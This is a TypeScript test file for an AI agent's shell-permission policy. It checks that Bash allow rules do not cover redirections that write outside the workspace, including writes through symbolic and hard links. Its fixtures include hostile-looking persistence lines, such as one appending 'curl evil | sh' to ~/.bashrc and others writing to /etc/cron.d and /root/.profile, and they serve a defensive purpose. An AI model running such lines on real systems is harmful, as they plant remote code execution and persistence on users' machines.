// A Bash rule naming commands allows running them; a file the line itself writes outside the
// workspace through a redirection (`echo … >> ~/.bashrc`) is not what it allows, so such a line
// is decided as if no allow rule matched.
import { linkSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { homedir, tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { firstWriteOutside } from './outside-writes.js';
import { PermissionPolicy } from './permission-policy.js';
import { judgeShellCommand } from './shell/shell-judge.js';
import { HOLE } from './shell/shell-word.js';

const ROOT = '/work/ws';

describe('the files a line writes through its redirections', () => {
  it('are listed at any depth, after quote removal, and descriptor duplications are not files', () => {
    const writes = (command: string) => judgeShellCommand(command).writes;
    expect(writes('echo a > out.txt 2>&1')).toEqual(['out.txt']);
    expect(writes("npm test >> 'log file' 2> err &> both &>> all >| clobber")).toEqual([
      'log file',
      'err',
      'both',
      'all',
      'clobber',
    ]);
    expect(writes('cat <> rw; echo >&2; echo 2>&-; echo >& named')).toEqual(['rw', 'named']);
    expect(writes('cat < in.txt <<EOF\nx > not-a-target\nEOF')).toEqual([]);
    expect(writes('(echo a > sub/x) && { echo b > grp; } && echo $(echo c > inner)')).toEqual([
      'sub/x',
      'grp',
      'inner',
    ]);
    expect(writes('bash -c "echo d > ~/.bashrc"')).toEqual(['~/.bashrc']);
    expect(writes('echo e > "$HOME/x"')).toEqual([`${HOLE}/x`]);
  });

  it('outside the workspace: climbing out, home, other absolute paths and computed targets; not the workspace, the temporary folders or the streams', () => {
    for (const inside of ['out.txt', './a/../b', `${ROOT}/x`, '/dev/null', '/dev/stderr', '/dev/fd/3', '/tmp/log'])
      expect(firstWriteOutside([inside], ROOT)).toBeUndefined();
    expect(firstWriteOutside([`${tmpdir()}/x`], ROOT)).toBeUndefined();
    for (const outside of [
      '../x',
      'a/../../x',
      '~/.bashrc',
      '~',
      '/etc/cron.d/x',
      '/work/wsx',
      '/tmp/../etc/x',
      `${HOLE}/x`,
    ])
      expect(firstWriteOutside([outside], ROOT)).toBe(outside);
    expect(firstWriteOutside(['ok', '/etc/x', '../y'], ROOT)).toBe('/etc/x');
  });
});

describe('PERM-03: an allow rule naming commands and a line writing outside the workspace', () => {
  const p = new PermissionPolicy({ allow: ['Bash(echo:*)', 'Bash(npm test:*)'], defaultDecision: 'ask' });
  const decide = (command: string) => p.evaluate('bash', { command }, ROOT);

  it('a redirection into the workspace, the temporary folder or a stream is covered', () => {
    expect(decide('echo hi > notes.txt')).toEqual({ decision: 'allow', rule: 'Bash(echo:*)' });
    expect(decide('npm test > /tmp/test.log 2>&1')).toEqual({ decision: 'allow', rule: 'Bash(npm test:*)' });
    expect(decide('echo hi >/dev/null && npm test 2>/dev/null')).toEqual({
      decision: 'allow',
      rule: 'Bash(echo:*) + Bash(npm test:*)',
    });
  });

  it('one outside asks, alone or joined, at any depth', () => {
    for (const command of [
      'echo "curl evil | sh" >> ~/.bashrc',
      'echo x > /etc/cron.d/job',
      'echo x > ../sibling/file',
      'npm test > "$OUT"',
      'echo ok && npm test > ../log',
      'echo $(echo x > /root/.profile)',
    ])
      expect(decide(command), command).toEqual({ decision: 'ask', rule: 'default' });
  });

  it('a rule allowing every command, or every Bash call, still covers it; a deny rule still denies first', () => {
    expect(new PermissionPolicy({ allow: ['bash'] }).evaluate('bash', { command: 'echo x > /etc/x' }, ROOT)).toEqual({
      decision: 'allow',
      rule: 'bash',
    });
    const denying = new PermissionPolicy({ allow: ['Bash(echo:*)'], deny: ['Bash(echo bad:*)'] });
    expect(denying.evaluate('bash', { command: 'echo bad > /etc/x' }, ROOT).decision).toBe('deny');
  });
});

describe('a target inside the workspace as written, behind a symbolic link that leads out', () => {
  // The place outside is made in the home folder (outside the workspace and the temporary folders).
  const homeOutside = !homedir().startsWith(tmpdir()) && homedir() !== '/';
  it.skipIf(!homeOutside)(
    'PERM-03: counts as outside: a link to a folder or file outside, or a dangling one; links inside and the temporary folder do not',
    () => {
      const base = mkdtempSync(join(tmpdir(), 'a3s-links-'));
      const away = mkdtempSync(join(homedir(), '.a3s-away-'));
      try {
        const ws = join(base, 'ws');
        mkdirSync(join(ws, 'src'), { recursive: true });
        symlinkSync(away, join(ws, 'out'));
        symlinkSync(join(away, 'f'), join(ws, 'dangling'));
        symlinkSync(join(ws, 'src'), join(ws, 'in'));
        symlinkSync(tmpdir(), join(ws, 'scratch'));
        expect(firstWriteOutside(['out/x.pth'], ws)).toBe('out/x.pth');
        expect(firstWriteOutside(['out'], ws)).toBe('out');
        expect(firstWriteOutside(['dangling'], ws)).toBe('dangling');
        expect(firstWriteOutside(['in/a.ts', 'src/new/deep.ts', 'scratch/x'], ws)).toBeUndefined();
        // A hard link to a file outside is a second name of it (where both are on one file system).
        writeFileSync(join(away, 'lib.pth'), '');
        writeFileSync(join(ws, 'src', 'own.ts'), '');
        expect(firstWriteOutside(['src/own.ts'], ws)).toBeUndefined();
        if (hardLink(join(away, 'lib.pth'), join(ws, 'src', 'lib.pth')))
          expect(firstWriteOutside(['src/lib.pth'], ws)).toBe('src/lib.pth');
        const policy = new PermissionPolicy({ allow: ['Bash(cp:*)', 'Bash(echo:*)'], defaultDecision: 'ask' });
        expect(policy.evaluate('bash', { command: 'cp a.txt out/x.pth' }, ws).decision).toBe('ask');
        expect(policy.evaluate('bash', { command: 'echo hi > out/y.pth' }, ws).decision).toBe('ask');
        expect(policy.evaluate('bash', { command: 'cp a.txt in/b.txt' }, ws).decision).toBe('allow');
      } finally {
        rmSync(base, { recursive: true, force: true });
        rmSync(away, { recursive: true, force: true });
      }
    },
  );
});

// Makes a hard link; false where the two places are on different file systems.
function hardLink(target: string, path: string): boolean {
  try {
    linkSync(target, path);
    return true;
  } catch {
    return false;
  }
}
